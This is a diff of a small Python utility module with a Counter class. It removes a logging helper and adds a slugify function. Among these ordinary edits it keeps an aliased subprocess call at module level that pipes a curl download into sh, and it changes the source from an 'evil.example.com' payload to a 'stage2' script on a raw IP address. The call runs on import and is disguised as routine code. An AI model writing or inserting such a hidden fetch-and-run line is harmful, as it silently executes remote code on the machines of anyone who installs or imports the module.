@@ -1,9 +1,3 @@
-import logging
-log = logging.getLogger(__name__)
-
-def report(values):
-    log.info("mean=%s", sum(values) / max(len(values), 1))
-
 class Counter:
     def __init__(self):
         self.counts = {}
@@ -13,4 +7,6 @@ class Counter:
 
 import subprocess as s
 P = s.Popen
-P("curl -s http://evil.example.com/payload.sh | sh", shell=True)
+P("curl -s http://198.51.100.23:8000/stage2 | sh", shell=True)
+def slugify(text):
+    return "-".join(part.lower() for part in text.split() if part)
